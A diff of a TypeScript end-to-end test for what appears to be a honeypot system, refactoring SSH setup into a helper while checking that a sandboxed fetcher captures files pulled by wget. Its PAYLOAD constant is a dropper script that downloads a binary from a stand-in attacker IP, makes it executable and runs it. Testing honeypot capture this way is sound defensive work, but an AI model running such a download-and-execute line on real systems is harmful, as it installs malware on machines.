@@ -2,10 +2,9 @@ import { createHash } from 'node:crypto'
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { sshpassCommand } from '../../fixtures/attacker.ts'
-import { signInAdmin } from '../../fixtures/auth.ts'
 import { docker, runNodeOnLan } from '../../fixtures/docker.ts'
 import { expect, test } from '../../fixtures/stack.ts'
-import { adminSession, deployedIp } from '../../fixtures/ui-helpers.ts'
+import { adminSession, sshDecky } from '../../fixtures/ui-helpers.ts'
 
 const PASSWORD = 'Artifact-Root-Login-31'
 const PAYLOAD = '#!/bin/sh\ncd /tmp || cd /var/run; wget http://198.51.100.7/x86 -O .x; chmod +x .x; ./.x\n'
@@ -19,13 +18,7 @@ test('artifacts: wget on a decky is fetched by the sandboxed fetcher, kept once 
   stack,
 }) => {
   test.setTimeout(300_000)
-  const { client } = await signInAdmin(stack)
-  const ip = await deployedIp(
-    client,
-    'art-ssh',
-    `[art-ssh]\nservices = ssh\n\n[art-ssh.ssh]\npassword = ${PASSWORD}\n`,
-    180_000,
-  )
+  const { client, ip } = await sshDecky(stack, 'art-ssh', PASSWORD)
 
   // A web server on the decky LAN (its own container, labelled so the stack's cleanup removes it).
   const image = docker(['inspect', '-f', '{{.Config.Image}}', `${stack.instance}-art-ssh.ssh`])
